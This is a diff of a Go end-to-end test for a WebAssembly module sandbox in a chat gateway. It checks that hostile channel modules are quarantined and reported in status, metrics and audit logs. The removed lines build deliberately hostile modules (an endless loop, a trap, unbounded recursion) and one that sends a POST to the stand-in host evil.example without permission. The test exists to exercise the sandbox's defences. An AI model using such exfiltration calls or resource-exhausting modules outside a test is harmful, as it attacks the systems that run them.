@@ -2,79 +2,72 @@ package e2e_test
 
 import (
 	"bytes"
+	"cmp"
+	"crypto/ed25519"
 	"crypto/sha256"
 	"encoding/json"
 	"fmt"
 	"io"
+	"maps"
 	"net/http"
+	"net/http/httptest"
 	"os"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
 	"time"
 
-	"github.com/gatehouse-chat/gatehouse/internal/sandbox"
-	"github.com/gatehouse-chat/gatehouse/internal/sandbox/wasmtest"
+	"github.com/gatehouse-chat/gatehouse/channels"
+	guests "github.com/gatehouse-chat/gatehouse/internal/module"
 )
 
-// hostile are modules whose every operation does one thing that a host must
-// survive, with the word by which its fault is known.
-func hostile() map[string]struct {
-	code  []byte
-	fault string
-} {
-	endless := wasmtest.New(1)
-	endless.Handle(nil, wasmtest.Loop(), wasmtest.Br(0), wasmtest.End(), wasmtest.I32Const(0))
-	traps := wasmtest.New(1)
-	traps.Handle(nil, wasmtest.Op(0x00), wasmtest.I32Const(0))
-	deep := wasmtest.New(1)
-	self := deep.Next()
-	deep.Func(wasmtest.Types{wasmtest.I32}, wasmtest.Types{wasmtest.I32}, nil, wasmtest.LocalGet(0), wasmtest.Call(self))
-	deep.Handle(nil, wasmtest.LocalGet(0), wasmtest.Call(self))
-	type bad = struct {
-		code  []byte
-		fault string
-	}
-	return map[string]bad{
-		"bad-loop": {endless.Bytes(), "fuel"}, "bad-trap": {traps.Bytes(), "trap"}, "bad-depth": {deep.Bytes(), "depth"},
-		"bad-host": {unlisted(), "the manifest does not list"},
-	}
+// silence is a platform that takes what is sent to it, and never answers.
+func silence(t *testing.T) string {
+	t.Helper()
+	gone := make(chan struct{})
+	srv := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
+		select {
+		case <-r.Context().Done():
+		case <-gone:
+		}
+	}))
+	t.Cleanup(srv.Close)
+	t.Cleanup(func() { close(gone) })
+	return srv.URL
 }
 
-// unlisted is a module that asks for a host that its manifest does not list, and
-// takes no for an answer.
-func unlisted() []byte {
-	m := wasmtest.New(2)
-	output := m.Import("gw", "output", wasmtest.Types{wasmtest.I32, wasmtest.I32}, nil)
-	call := m.Import("gw", "call", wasmtest.Types{wasmtest.I32, wasmtest.I32, wasmtest.I32}, wasmtest.Types{wasmtest.I64})
-	frame := func(header string) []byte { return sandbox.Payload{Header: json.RawMessage(header)}.Encode() }
-	request, failure := frame(`{"method":"POST","url":"https://evil.example/take"}`), frame(`{"code":"other","message":"I was refused"}`)
-	m.Data(0, request)
-	m.Data(4096, failure)
-	m.Handle(nil,
-		wasmtest.I32Const(int32(sandbox.HostHTTP)), wasmtest.I32Const(0), wasmtest.I32Const(int32(len(request))), wasmtest.Call(call), wasmtest.Op(0x1a),
-		wasmtest.I32Const(4096), wasmtest.I32Const(int32(len(failure))), wasmtest.Call(output), wasmtest.I32Const(1))
-	return m.Bytes()
+// sign packs a module for a channel whose section names the file.
+func (r *rig) sign(name string, v villain, key ed25519.PrivateKey) (path string) {
+	r.t.Helper()
+	manifest := fmt.Appendf(nil, `{"id": %q, "version": "1.0.0", "abi": "gw1", "kind": ["channel"], "sha256": "%x", "poll": {"min_interval": "1s"},
+		"limits": {"fuel": 20000000, "wall_ms": %d}%s}`, name, sha256.Sum256(v.code), cmp.Or(v.wall, 60_000), v.more)
+	b, err := guests.Pack(manifest, v.code, key)
+	if err != nil {
+		r.t.Fatal(err)
+	}
+	path = filepath.Join(r.dir, name+".gwm")
+	if err := os.WriteFile(path, b, 0o600); err != nil {
+		r.t.Fatal(err)
+	}
+	return path
 }
 
 // TestHostileModules: channels whose modules do their worst beside one that
-// works. Nothing of that one is lost or much delayed, the process lives, and
-// people are told which module does what.
+// works. Every message to that one is answered, the process lives, and people
+// are told which module does what: in the status, the metrics and, where it wanted
+// more than was granted, in the audit.
 func TestHostileModules(t *testing.T) {
-	bad := hostile()
-	var sections strings.Builder
-	for _, name := range []string{"bad-loop", "bad-trap", "bad-depth", "bad-host"} {
-		fmt.Fprintf(&sections, "\n  %s:\n    adapter: wasm\n    module: %s\n    dm: open", name, name)
-	}
-	alone := newRig(t, settings{})
-	alone.up()
-	before := alone.answers(900)
-	alone.term()
-
+	t.Parallel()
 	r := newRig(t, settings{})
-	for name, b := range bad {
-		r.install(name, fmt.Appendf(nil, `{"id": %q, "version": "1.0.0", "abi": "gw1", "kind": ["channel"], "sha256": "%x", "poll": {"min_interval": "1s"}}`,
-			name, sha256.Sum256(b.code)), b.code)
+	bad := villains(silence(t))
+	public, key, err := ed25519.GenerateKey(nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var sections strings.Builder
+	for name, v := range bad {
+		fmt.Fprintf(&sections, "\n  %s:\n    adapter: wasm\n    module: %q\n    publisher: %q\n    dm: open\n    %s", name, r.sign(name, v, key), guests.Publisher(public), v.keys)
 	}
 	r.set.channel = []string{sections.String()}
 	r.configure()
@@ -87,35 +80,58 @@ func TestHostileModules(t *testing.T) {
 		t.Fatal(err)
 	}
 	r.up()
-	during := r.answers(901)
-	t.Logf("answers beside nothing: %s; beside hostile modules: %s", spread(before), spread(during))
-
-	for name, b := range bad {
-		if !eventually(patience, func() bool { return strings.Contains(r.statusOf(name), b.fault) }) {
-			t.Errorf("the status of %s is\n%s", name, r.statusOf(name))
+	t.Logf("answers beside %d hostile modules: %s", len(bad), spread(r.answers(901)))
+	r.accused(bad)
+	t.Logf("answers beside those that are in quarantine: %s", spread(r.answers(902)))
+	r.told(admin, bad)
+	for name, said := range r.statuses() {
+		if strings.Contains(said, "I LEARNED SOMETHING") {
+			t.Errorf("%s learned what is none of its business", name)
 		}
 	}
-	if got := r.statusOf("bad-host"); !strings.Contains(got, "evil.example") || !strings.Contains(got, "under http it would be") {
-		t.Errorf("the missing line is not in\n%s", r.statusOf("bad-host"))
+	r.term()
+}
+
+// accused waits until people are told what each module does, and until those
+// that fail are left alone.
+func (r *rig) accused(bad map[string]villain) {
+	r.t.Helper()
+	waiting := maps.Clone(bad)
+	if eventually(3*patience, func() bool {
+		all := r.statuses()
+		maps.DeleteFunc(waiting, func(name string, v villain) bool {
+			return strings.Contains(all[name], v.fault) && (v.kind == "" || strings.HasPrefix(all[name], string(channels.Broken)))
+		})
+		return len(waiting) == 0
+	}) {
+		return
 	}
-	if !eventually(patience, func() bool { return strings.Contains(r.proc.log.String(), "quarantine=1m0s") }) {
-		t.Error("no module is left alone")
+	all := r.statuses()
+	for name, v := range waiting {
+		r.t.Errorf("the status of %s has no %q, or it is not left alone:\n%s", name, v.fault, all[name])
 	}
-	if out := r.verb("audit", "list", "--kind", "egress", "--failed"); !strings.Contains(out, "evil.example") || !strings.Contains(out, "bad-host") {
-		t.Errorf("the audit log has\n%s", out)
-	}
+}
+
+// told looks for the faults in the metrics, and for the refusals in the audit.
+func (r *rig) told(admin string, bad map[string]villain) {
+	r.t.Helper()
 	resp, err := http.Get("http://" + admin + "/metrics") //nolint:noctx // loopback
 	if err != nil {
-		t.Fatal(err)
+		r.t.Fatal(err)
 	}
 	metrics, _ := io.ReadAll(resp.Body)
 	_ = resp.Body.Close()
-	for _, want := range []string{`module="bad-loop"`, `kind="fuel"`, `module="bad-depth"`, `kind="depth"`, `module="bad-trap"`} {
-		if !strings.Contains(string(metrics), want) {
-			t.Errorf("the metrics have no %s", want)
+	audit := r.verb("audit", "list", "--kind", "egress", "--failed")
+	for name, v := range bad {
+		if want := fmt.Sprintf(`kind=%q,module=%q`, v.kind, name); v.kind != "" && !strings.Contains(string(metrics), want) {
+			r.t.Errorf("the metrics have no %s", want)
+		}
+		if v.audit != "" && !slices.ContainsFunc(strings.Split(audit, "\n"), func(line string) bool {
+			return strings.Contains(line, v.audit) && strings.Contains(line, name)
+		}) {
+			r.t.Errorf("the audit log has no %s of %s:\n%s", v.audit, name, audit)
 		}
 	}
-	r.answers(902)
 }
 
 // answers writes messages one after the other and returns how long each answer
@@ -139,18 +155,17 @@ func spread(all []time.Duration) string {
 	return fmt.Sprintf("p50 %s, p99 %s", all[len(all)/2].Round(time.Millisecond), all[len(all)*99/100].Round(time.Millisecond))
 }
 
-// statusOf is what people are told of a channel.
-func (r *rig) statusOf(channel string) string {
+// statuses are what people are told of each channel.
+func (r *rig) statuses() map[string]string {
 	var s struct {
 		Channels []struct{ ID, Phase, Error, Fix string } `json:"channels"`
 	}
 	if err := json.Unmarshal([]byte(r.verb("status", "--json")), &s); err != nil {
 		r.t.Fatal(err)
 	}
+	all := map[string]string{}
 	for _, c := range s.Channels {
-		if c.ID == channel {
-			return fmt.Sprintf("%s: %s (%s)", c.Phase, c.Error, c.Fix)
-		}
+		all[c.ID] = fmt.Sprintf("%s: %s (%s)", c.Phase, c.Error, c.Fix)
 	}
-	return ""
+	return all
 }
